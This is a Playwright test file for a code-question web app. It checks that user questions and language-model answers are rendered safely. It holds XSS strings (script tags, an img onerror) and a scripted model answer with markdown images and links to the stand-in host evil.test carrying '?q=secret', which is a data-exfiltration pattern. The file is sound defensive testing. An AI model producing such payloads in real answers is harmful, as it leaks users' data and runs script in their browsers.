/** Text from a reader, a repository or a model is data: it is shown as it is, loads nothing and runs nothing. */
import { expect, type Page, test } from '@playwright/test';
import { AskPage, QUESTION } from './support/ask-page';
import { startModelServer } from './support/model-server';

const MARKUP = 'what does </title><script>window.hit = 1</script><img src=x onerror="window.hit = 1"> call?';

/** What the browser complains about, and what it asks of other servers. */
function watch(page: Page): { readonly complaints: string[]; readonly outside: string[] } {
  const complaints: string[] = [];
  const outside: string[] = [];
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  page.on('pageerror', (error) => complaints.push(error.message));
  page.on('request', (request) => {
    if (/^https?:/.test(request.url()) && new URL(request.url()).hostname !== 'localhost') outside.push(request.url());
  });
  return { complaints, outside };
}

function ran(page: Page): Promise<boolean> {
  return page.evaluate(() => 'hit' in window);
}

test('markup in a question is text: on the page, behind its link, in the title and in an address', async ({ page, request }) => {
  const seen = watch(page);
  const ask = new AskPage(page);
  await ask.open();
  await ask.ask(MARKUP);
  const permalink = (await ask.lastTurn().getByRole('link', { name: /UTC$/ }).getAttribute('href')) ?? '';
  expect(await ran(page)).toBe(false);

  await page.goto(permalink);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(MARKUP);
  await expect(page).toHaveTitle(`${MARKUP} · Pathlight`);
  expect(await ran(page)).toBe(false);
  const html = await (await request.get(permalink)).text();
  expect(html).not.toMatch(/<script>window\.hit|<img src=x/);
  expect((await (await request.get(`/api/answers/${permalink.split('/').at(-1)}/markdown`)).text()).split('\n')[0]).toBe(
    `## ${MARKUP.replace(/[\\`*_[\]<>#]/g, '\\$&')}`,
  );

  await page.goto(`/?q=${encodeURIComponent(MARKUP)}`);
  await expect(ask.box).toHaveValue(MARKUP);
  await expect(page.getByRole('region', { name: 'Recent conversations' })).toContainText('<script>');
  expect(await ran(page)).toBe(false);
  expect(seen).toEqual({ complaints: [], outside: [] });
});

test('no page breaks the policy it is sent with, nor asks anything of another server', async ({ page }) => {
  const seen = watch(page);
  const source = '/source/shop/web/src/services/checkout.service.ts';
  for (const [path, heading] of [
    ['/', 'Ask how this code works'],
    ['/status', 'Status'],
    [source, /checkout\.service\.ts/],
  ] as const) {
    await page.goto(path);
    await expect(page.getByRole('heading', { name: heading }).first()).toBeVisible();
  }
  await page.getByRole('link', { name: 'Status' }).click();
  await expect(page.getByRole('heading', { name: 'Status' })).toBeVisible();
  expect(seen).toEqual({ complaints: [], outside: [] });
});

test('a NUL byte and control characters in a question are dropped', async ({ request }) => {
  const response = await request.post('/api/ask', { data: { question: 'who\u0000 calls\u001b PaymentClient.charge?' } });
  const id = /"answerId":"([^"]+)"/.exec(await response.text())?.[1];
  const { answer } = await (await request.get(`/api/answers/${id}`)).json();
  expect(answer).toMatchObject({ question: 'who calls PaymentClient.charge?', refused: false });
});

test('an answer of a model loads nothing from outside and leads nowhere else', async ({ page }) => {
  const server = await startModelServer();
  try {
    server.model.play([
      {
        kind: 'text',
        text: [
          'It is all said ![pixel](https://evil.test/p.png?q=secret) in [the guide](https://evil.test/?q=secret).',
          '<img src="https://evil.test/i.png"><iframe src="https://evil.test"></iframe><script>window.hit = 1</script>',
          'https://evil.test/auto and <https://evil.test/angle> and ![ref][r].',
          '[r]: https://evil.test/ref.png',
          '```html\n<img src="https://evil.test/code.png">\n```',
        ].join('\n\n'),
      },
    ]);
    const seen = watch(page);
    const ask = new AskPage(page);
    await ask.open(server.url);
    await ask.ask(QUESTION);
    await expect(ask.lastTurn()).toContainText('the guide');
    const permalink = (await ask.lastTurn().getByRole('link', { name: /UTC$/ }).getAttribute('href')) ?? '';
    for (const url of [null, server.url + permalink]) {
      if (url !== null) await page.goto(url);
      await expect(page.getByText('the guide').first()).toBeVisible();
      const links = await page
        .getByRole('article')
        .locator('a')
        .evaluateAll((all) => all.map((one) => one.getAttribute('href')));
      expect(links.filter((href) => !href?.startsWith('/'))).toEqual([]);
      await expect(page.getByRole('article').locator('img, iframe, script')).toHaveCount(0);
      expect(await ran(page)).toBe(false);
    }
    expect(seen).toEqual({ complaints: [], outside: [] });
  } finally {
    await server.close();
  }
});
